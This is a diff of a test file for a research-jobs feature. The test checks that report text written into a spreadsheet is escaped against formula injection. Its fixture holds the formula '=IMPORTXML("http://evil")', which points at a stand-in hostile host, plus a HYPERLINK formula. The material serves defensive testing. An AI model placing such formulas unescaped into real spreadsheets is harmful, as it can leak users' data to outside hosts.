@@ -279,7 +279,8 @@ describe('research jobs', () => {
     s.service.tasks[0].agents = 1;
     s.service.tasks[0].report = { kind: 'markdown', markdown: '=IMPORTXML("http://evil")', sources: [{ id: 1, url: '=HYPERLINK("x")' }], degradation_reasons: [] };
     runTick(reopen(s.deps, s.ledgerTable, s.reportTable));
-    expect(s.grid.at(SHEET, 2, 'Report')).toBe('\'=IMPORTXML("http://evil")');
+    expect(s.grid.at(SHEET, 2, 'Report')).toBe('=IMPORTXML("http://evil")');
     expect(s.grid.at(SHEET, 2, 'Sources')).toBe('[1] =HYPERLINK("x")');
+    expect(s.grid.raw.get(`${SHEET}:2:3`)).toBe('\'=IMPORTXML("http://evil")');
   });
 });
